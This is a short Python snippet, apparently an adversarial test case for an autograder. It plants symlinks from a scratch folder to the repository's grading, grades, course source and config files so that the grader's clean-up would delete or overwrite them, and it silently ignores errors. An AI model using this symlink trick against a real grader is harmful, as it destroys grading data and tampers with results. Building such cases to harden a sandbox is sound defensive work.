"""Plant symlinks in the scratch folder to the repository's folders, hoping the grader's clean-up
of the scratch folder deletes through them or writes into them."""
for name in ("autograder", "grades", "course", "source", "release"):
    try:
        os.symlink(os.path.join(ROOT, name), name)
    except OSError:
        pass
try:
    os.symlink(ROOT, "repo")
    os.makedirs("nested/deeper", exist_ok=True)
    os.symlink(os.path.join(ROOT, "course_config.py"), "nested/deeper/config.py")
except OSError:
    pass
